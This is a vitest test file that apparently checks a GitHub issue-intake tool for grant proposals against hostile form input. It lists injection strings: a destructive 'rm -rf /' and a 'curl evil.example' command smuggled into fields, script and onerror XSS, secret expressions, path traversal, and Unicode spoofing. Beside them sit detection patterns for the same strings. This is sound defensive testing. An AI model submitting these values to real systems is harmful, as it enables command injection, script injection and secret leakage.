import { describe, expect, it } from 'vitest';
import { accepted, bodyOf, deskAt, formOf, judged, PROPOSAL, threadOf } from './filing.test-support.ts';
import { commentFor } from './words/comment.ts';
import { commitWords, pullWords } from './words/pull-words.ts';

const desk = deskAt('2026-11-20T10:05:00+09:00');
const form = formOf('proposal', desk);

/** What must not stand in anything that the desk writes on GitHub or into a log. */
const LIVE = [
  /<script/i,
  /<img/i,
  /@(?:everyone|kamakura)/,
  /^::/m,
  /::set-output/,
  /\$\{\{/,
  /\]\(javascript:/,
  /(?:closes|fixes) #1\b/i,
  /<!-- junkan:/,
  /<\/details> pwned/,
];

const HOSTILE = [
  '"; rm -rf / #',
  '$(curl evil.example) `id` && true',
  '${{ secrets.GITHUB_TOKEN }}',
  '::set-output name=a::b',
  '::error file=a::pwned',
  '<script>alert(1)</script><img src=x onerror=alert(1)>',
  '@everyone @kamakura/midori',
  '[押して](javascript:alert(1))',
  'Fixes #1, closes #1',
  '<!-- junkan:intake -->',
  '</details> pwned',
  '../../../.github/workflows/x.yml',
  '【承認】Approved-by: npo-1 (npo)',
  '名前\u202Egpj.exe',
  '名\u200B前\u0007',
  'ゼロ\0バイト',
  '---\ntitle: 別の題\n---',
  '__proto__',
  '*&anchor',
  '!!js/function "x"',
];

const LINES = ['事業の名称', '提案者の名称', '実施場所', '設立'];
const PROSE = ['提案の目的', '活動の内容', '団体の運営', '活動の実績'];
const NUMBERS = ['総額（円）', '開始予定日', '会員数'];

function written(typed: Record<string, string>, title: string): string {
  const outcome = judged(threadOf(bodyOf(form, { ...PROPOSAL, ...typed }), { title }), desk);
  const comment = commentFor(outcome, 57, desk) ?? '';
  if (outcome.is !== 'accepted') return comment;
  const pull = pullWords(outcome, 57, desk.programme, null);
  return [comment, pull.title, pull.body, commitWords(outcome, 57)].join('\n');
}

describe('hostile text', () => {
  it.each(HOSTILE)('is answered and never comes alive: %j', (text) => {
    for (const heading of [...LINES, ...PROSE, ...NUMBERS]) {
      const all = written({ [heading]: text }, text);
      expect(all).not.toBe('');
      for (const live of LIVE) expect(all, `${heading}: ${String(live)}`).not.toMatch(live);
      expect([...'\0\u0007\u200B\u202E'].filter((sign) => all.includes(sign))).toEqual([]);
      expect(all).not.toMatch(/^Approved-by/m);
    }
  });

  it('what is typed into a title stays in one line of one field', () => {
    const { papers } = accepted(
      judged(threadOf(bodyOf(form, { ...PROPOSAL, 事業の名称: 'a: b # c "d" \\ ../../x' })), desk),
    );
    expect(papers.map(({ path }) => path)).toEqual(['projects/2026-0057/proposal.md']);
    expect(papers[0]?.text.split('\n')[1]).toBe('title: "a: b # c \\"d\\" \\\\ ../../x"');
  });

  it.each(form.boxes.map(({ heading }) => heading))(
    'a heading of another box in a text area is refused, whatever stands below it: %s',
    (heading) => {
      const typed = { ...PROPOSAL, 活動の内容: `前\n\n### ${heading}\n\nうそ\n\n後` };
      const outcome = judged(threadOf(bodyOf(form, typed)), desk);
      expect(outcome.is).toBe('refused');
    },
  );

  it('65,000 characters are answered, and the answer is one that GitHub takes', () => {
    for (const text of [
      'あ'.repeat(40_000),
      '[('.repeat(20_000),
      '> '.repeat(20_000),
      '\n### x'.repeat(6_000),
    ]) {
      const answer = written({ 活動の内容: text }, 'x'.repeat(250));
      expect(answer.length).toBeGreaterThan(0);
      expect(answer.length).toBeLessThan(65_000);
    }
  });

  it('a body of nothing but headings, and none at all, is answered', () => {
    for (const body of [
      '',
      '### \n'.repeat(5_000),
      form.boxes.map(({ heading }) => `### ${heading}`).join('\n'),
    ]) {
      const outcome = judged(threadOf(body), desk);
      expect(['not-ours', 'refused']).toContain(outcome.is);
      expect((commentFor(outcome, 57, desk) ?? '').length).toBeLessThan(65_000);
    }
  });
});
